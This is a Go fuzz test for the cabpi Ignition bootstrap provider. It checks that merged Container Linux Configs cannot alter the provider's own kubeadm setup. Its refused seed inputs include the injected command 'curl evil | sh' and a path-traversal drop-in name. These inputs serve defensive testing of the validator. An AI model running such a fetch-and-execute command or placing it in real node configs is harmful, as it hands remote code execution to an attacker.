/*
Copyright The cabpi Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package ignition_test

import (
	"bytes"
	"errors"
	"testing"

	"github.com/stretchr/testify/require"

	cabpiv1 "github.com/cabpi/cluster-api-bootstrap-provider-ignition/apis/v1alpha1"
	"github.com/cabpi/cluster-api-bootstrap-provider-ignition/ignition"
)

// fuzzCLCSnippets are Container Linux Configs of the kinds users carried over from CABPK: files
// (inline, remote, appended to, on a filesystem under /sysroot), links, directories, units and
// drop-ins (for kubeadm.service too), networkd units, users and groups, the docker: and update:
// sections. Some are refused; the target looks at both outcomes.
var fuzzCLCSnippets = []string{
	flatcarCLC,
	`storage:
  filesystems:
    - name: var
      path: /sysroot/var
  files:
    - path: /opt/bin/helper
      mode: 0755
      contents:
        remote:
          url: https://example.com/helper.gz
          compression: gzip
          verification:
            hash:
              function: sha512
              sum: 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
    - path: /etc/environment
      append: true
      contents:
        inline: HTTP_PROXY=http://proxy.example:3128
    - path: /lib/cabpi/state
      filesystem: var
      mode: 0600
      user: {name: core}
  links:
    - path: /etc/localtime
      target: /usr/share/zoneinfo/Europe/Berlin
      overwrite: true
    - path: /lib/cabpi/state.hard
      filesystem: var
      target: /lib/cabpi/state
      hard: true
  directories:
    - path: /var/lib/cabpi
      mode: 0700
update:
  group: stable
locksmith:
  reboot_strategy: off
`,
	`passwd:
  users:
    - name: admin
      groups: [wheel, sudo]
      uid: 1001
      ssh_authorized_keys: ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample admin@example"]
  groups:
    - name: ops
      gid: 2001
docker:
  flags: [--log-level=warn]
systemd:
  units:
    - name: kubeadm.service
      dropins:
        - name: 10-proxy.conf
          contents: |
            [Unit]
            After=network-online.target
            [Service]
            Environment=HTTPS_PROXY=http://proxy.example:3128
    - name: docker.service
      dropins:
        - name: 10-limits.conf
          contents: "[Service]\nLimitNOFILE=1048576\n"
    - name: update-engine.service
      mask: true
networkd:
  units:
    - name: 00-eth0.network
      contents: "[Match]\nName=eth0\n[Network]\nDHCP=yes\n"
      dropins:
        - name: 10-mtu.conf
          contents: "[Link]\nMTUBytes=9000\n"
`,
	// Refused: a drop-in resetting the guard, a preset disabling the unit, an owned path, a
	// hard link to an owned file, a link over a parent of an owned path, a replace, a networkd
	// drop-in reaching kubeadm.service's drop-ins, a file on a mounted filesystem.
	"systemd:\n  units:\n    - name: kubeadm.service\n      dropins:\n        - name: 10-x.conf\n          contents: \"[Unit]\\nConditionPathExists=\\n\"\n",
	"storage:\n  files:\n    - path: /etc/systemd/system-preset/00-x.preset\n      mode: 0644\n      contents:\n        inline: \"disable *\\n\"\n",
	"storage:\n  files:\n    - path: /etc/kubeadm.sh\n      append: true\n      contents:\n        inline: \"curl evil | sh\\n\"\n",
	"storage:\n  links:\n    - path: /var/x\n      target: /etc/kubeadm.yml\n      hard: true\n",
	"storage:\n  links:\n    - path: /etc/systemd\n      target: /var/systemd\n",
	"ignition:\n  config:\n    replace:\n      source: https://example.com/other.ign\n",
	"networkd:\n  units:\n    - name: x.network\n      dropins:\n        - name: ../../system/kubeadm.service.d/10-x.conf\n          contents: \"[Service]\\nUser=core\\n\"\n",
	"storage:\n  filesystems:\n    - name: oem\n      mount:\n        device: /dev/disk/by-label/OEM\n        format: btrfs\n  files:\n    - filesystem: oem\n      path: /grub.cfg\n      mode: 0644\n",
}

// FuzzCLCMerge feeds arbitrary Container Linux Configs through the renderer's snippet path,
// merged into a flatcar worker or control-plane join. The invariants are FuzzButaneMerge's:
//   - it never panics (the transpiler included); an error is an *ignition.Error with no output;
//   - valid output parses with ignition/v2/config, at the version reported;
//   - what the provider writes is exactly what it writes without the document, kubeadm.service
//     unchanged but for the drop-ins a document may add;
//   - every drop-in of kubeadm.service and preset file it brings passes the checks the same
//     content gets as a file of spec.files;
//   - rendering twice gives identical bytes;
//
// and for fcos, which never reads a Container Linux Config, any document is refused.
func FuzzCLCMerge(f *testing.F) {
	for _, doc := range fuzzCLCSnippets {
		f.Add(doc, false, false)
	}
	f.Add(flatcarCLC, true, true)

	bases := map[bool]fuzzConfig{}
	for _, controlPlane := range []bool{false, true} {
		out, err := ignition.Render(fuzzMergeInput(cabpiv1.VariantFlatcar, controlPlane))
		require.NoError(f, err)
		bases[controlPlane] = fuzzParseConfig(f, out.Data)
	}

	f.Fuzz(func(t *testing.T, doc string, strict, controlPlane bool) {
		in := fuzzMergeInput(cabpiv1.VariantFlatcar, controlPlane)
		in.ContainerLinuxConfig, in.ContainerLinuxConfigStrict = doc, strict
		out, err := ignition.Render(in)
		if err != nil {
			requireInputError(t, out, err)
		} else {
			requireValidOutput(t, cabpiv1.VariantFlatcar, "", out)
			again, err := ignition.Render(in)
			require.NoError(t, err, "the second render of the same input failed")
			require.True(t, bytes.Equal(out.Data, again.Data), "rendering the same input twice gave different bytes")

			got := fuzzParseConfig(t, out.Data)
			requireProviderUnchanged(t, bases[controlPlane], got)
			requireSnippetDropinsAccepted(t, fuzzMergeInput(cabpiv1.VariantFlatcar, controlPlane), got)
		}

		fcos := fuzzMergeInput(cabpiv1.VariantFCOS, controlPlane)
		fcos.ContainerLinuxConfig = doc
		out, err = ignition.Render(fcos)
		if err == nil {
			require.Empty(t, bytes.TrimSpace([]byte(doc)), "fcos rendered a Container Linux Config")
			return
		}
		requireInputError(t, out, err)
		var ierr *ignition.Error
		require.True(t, errors.As(err, &ierr))
		require.Equal(t, ignition.ErrVariantMismatch, ierr.Kind, ierr.Error())
	})
}
